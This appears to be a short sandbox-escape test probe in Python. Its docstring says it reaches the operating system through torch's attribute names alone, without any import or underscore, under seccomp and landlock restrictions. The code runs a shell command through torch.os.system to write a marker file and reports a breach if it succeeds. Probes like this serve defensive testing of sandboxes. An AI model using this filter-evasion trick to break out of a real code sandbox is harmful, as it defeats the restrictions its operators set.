"""Reaches the operating system by names of torch alone, without an import or an underscore.

walls: seccomp landlock
"""

if torch.os.system(f": > {VICTIM}/{MARK}") == 0:
    breach("a shell ran")
